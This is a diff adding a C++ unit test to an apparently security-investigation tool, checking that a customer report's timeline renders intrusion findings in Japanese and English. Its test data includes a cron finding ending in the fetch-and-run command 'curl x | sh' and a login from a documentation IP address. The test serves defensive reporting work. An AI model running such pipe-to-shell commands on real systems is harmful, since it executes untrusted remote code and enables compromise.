@@ -242,6 +242,20 @@ TEST(CustomerReport, BoundsWhatAnAttackerCanInflate) {
   EXPECT_LT(dump_json(report).size(), 1'000'000U);
 }
 
+TEST(CustomerReport, TellsTheTimelineInJapaneseWithWhatItAdds) {
+  Json found = example_investigation();
+  found["timeline"][3]["text"] = found["findings"][3]["title"].get<std::string>() + ": curl x | sh";
+  Json login = found["timeline"][1];
+  login.erase("finding");
+  login["text"] = "webadmin logged in from 203.0.113.45 by publickey";
+  found["timeline"].push_back(login);
+  const Json items = report_on(found)["investigation"]["timeline"]["items"];
+  EXPECT_EQ(items[3]["text"]["ja"],
+            "webadmin の cron に、外部からプログラムを取得して実行する設定がありました: curl x | sh");
+  EXPECT_EQ(items.back()["text"]["ja"], "203.0.113.45 から webadmin に、公開鍵でログインがありました");
+  EXPECT_EQ(items.back()["text"]["en"], "webadmin logged in from 203.0.113.45 by publickey");
+}
+
 TEST(CustomerReport, AnUnknownRuleIsToldByItsTechnique) {
   Json found = example_investigation();
   found["findings"][3]["rule"] = "timers.new_one";
